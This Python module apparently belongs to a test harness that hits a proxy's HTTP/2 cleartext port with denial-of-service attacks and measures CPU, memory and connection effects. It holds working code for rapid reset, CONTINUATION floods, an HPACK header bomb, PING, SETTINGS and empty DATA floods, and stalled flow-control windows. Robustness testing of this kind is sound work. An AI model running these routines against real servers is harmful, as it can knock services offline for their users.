"""Attacks by HTTP/2 in the clear: floods of frames, header bombs, windows that never open."""

import asyncio

from faults.raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
                        WINDOW_UPDATE, connect, cut_off, frame, frames_in, number, receive, send, setting)

INITIAL_WINDOW_SIZE = 4
CANCEL = 8
WHOLE = END_STREAM | END_HEADERS
LARGEST = 2 ** 31 - 1


def encoder():
    import hpack  # of python3-hpack, which is installed when an attack is asked for
    return hpack.Encoder()


def get(path="/x", method="GET"):
    return [(":method", method), (":scheme", "http"), (":authority", "t.local"), (":path", path), ("x-id", "q")]


async def connection(attack, settings=b"", **options):
    client = await connect(attack.http2_port, **options)
    attack.sockets.append(client)
    await send(client, PREFACE + frame(SETTINGS, 0, 0, settings))
    return client


async def answered(attack, client, sent, taken, seconds=2.0):
    """What the proxy said to it, and what it cost."""
    data, closed = await receive(client, seconds)
    state = {True: "all taken", False: "closed", None: "not read any more"}[taken]
    return (f"sent {sent}, {state}; answers {frames_in(data)}{', closed' * closed}; "
            f"CPU {attack.cpu():.2f} s, direct {attack.direct()}")


async def repeat(client, make, batches, pause=0.0):
    """Sends what make(i) gives, batch by batch, while it is taken; returns how many were, and how it ended."""
    taken, sent = True, 0
    while sent < batches and taken:
        taken = await send(client, make(sent))
        sent += 1
        await asyncio.sleep(pause)
    return sent, taken


async def rapid_reset(attack):
    """20,000 requests, each reset at once."""
    client, coder = await connection(attack), encoder()

    def batch(i):
        streams = range(200 * i + 1, 200 * i + 201, 2)
        return b"".join(frame(HEADERS, WHOLE, stream, coder.encode(get())) +
                        frame(RST_STREAM, 0, stream, number(CANCEL)) for stream in streams)

    sent, taken = await repeat(client, batch, 200, 0.001)
    return await answered(attack, client, f"{100 * sent} HEADERS and RST_STREAM", taken)


async def made_reset(attack):
    """5,000 requests that the proxy has to reset, for a WINDOW_UPDATE of 0."""
    client, coder = await connection(attack), encoder()

    def batch(i):
        streams = range(100 * i + 1, 100 * i + 101, 2)
        return b"".join(frame(HEADERS, WHOLE, stream, coder.encode(get())) +
                        frame(WINDOW_UPDATE, 0, stream, number(0)) for stream in streams)

    sent, taken = await repeat(client, batch, 100, 0.005)
    return await answered(attack, client, f"{50 * sent} HEADERS and WINDOW_UPDATE of 0", taken)


async def continuation(attack):
    """A head that goes on in CONTINUATION frames of 8 kB for ever."""
    client, coder = await connection(attack), encoder()
    await send(client, frame(HEADERS, END_STREAM, 1, coder.encode(get())))
    sent, taken = await repeat(client, lambda i: frame(
        CONTINUATION, 0, 1, coder.encode([(f"x-{i}", "v" * 8000)], huffman=False)), 2000)
    return await answered(attack, client, f"{sent} CONTINUATION of 8 kB", taken)


async def empty_continuation(attack):
    """A head that goes on in empty CONTINUATION frames."""
    client, coder = await connection(attack), encoder()
    await send(client, frame(HEADERS, END_STREAM, 1, coder.encode(get())))
    sent, taken = await repeat(client, lambda i: frame(CONTINUATION, 0, 1) * 500, 400)
    return await answered(attack, client, f"{500 * sent} empty CONTINUATION", taken)


async def hpack_bomb(attack):
    """60 heads of 14,000 fields of 3.9 kB, each a byte on the wire."""
    client, coder = await connection(attack), encoder()
    first = coder.encode(get() + [("x-bomb", "v" * 3900)])
    index = coder.encode([("x-bomb", "v" * 3900)])
    plain = coder.encode(get())
    await send(client, frame(HEADERS, WHOLE, 1, first))
    sent, taken = await repeat(client, lambda i: frame(HEADERS, WHOLE, 3 + 2 * i, plain + index * 14_000), 60)
    return await answered(attack, client, f"{sent} heads", taken, 3)


async def ping_flood(attack):
    """400,000 PINGs whose answers nobody reads."""
    client = await connection(attack)
    sent, taken = await repeat(client, lambda i: frame(PING, 0, 0, b"12345678") * 1000, 400)
    return await answered(attack, client, f"{1000 * sent} PING", taken)


async def settings_flood(attack):
    """400,000 SETTINGS whose answers nobody reads."""
    client = await connection(attack)
    sent, taken = await repeat(
        client, lambda i: frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535 + i)) * 1000, 400)
    return await answered(attack, client, f"{1000 * sent} SETTINGS", taken)


async def empty_data(attack):
    """An upload of 400,000 empty DATA frames."""
    client, coder = await connection(attack), encoder()
    await send(client, frame(HEADERS, END_HEADERS, 1, coder.encode(get(method="POST"))))
    sent, taken = await repeat(client, lambda i: frame(DATA, 0, 1) * 1000, 400)
    return await answered(attack, client, f"{1000 * sent} empty DATA", taken)


async def unread_streams(attack, connections, size, settings=b"", window=b"", **options):
    clients = []
    for _ in range(connections):
        client, coder = await connection(attack, settings, **options), encoder()
        clients.append(client)
        await send(client, window + b"".join(
            frame(HEADERS, WHOLE, 2 * i + 1, coder.encode(get(f"/x?size={size}"))) for i in range(100)))
    history = await attack.memory(8)
    closed = sum(1 for client in clients if cut_off(client))
    return (f"(seconds, RSS, direct MiB): {history[::3]} {history[-1]}, connections to backends "
            f"{attack.backend_connections()}; closed {closed} of {len(clients)}")


async def stalled_windows(attack):
    """20 connections of 100 streams of 1 MB each, windows never opened."""
    return await unread_streams(attack, 20, 1_000_000)


async def open_windows(attack):
    """10 connections of 100 streams of 2 MB each, windows wide open, the socket unread."""
    window = frame(WINDOW_UPDATE, 0, 0, number(LARGEST - 65535))
    return await unread_streams(
        attack, 10, 2_000_000, setting(INITIAL_WINDOW_SIZE, LARGEST), window, receive_buffer=4096)
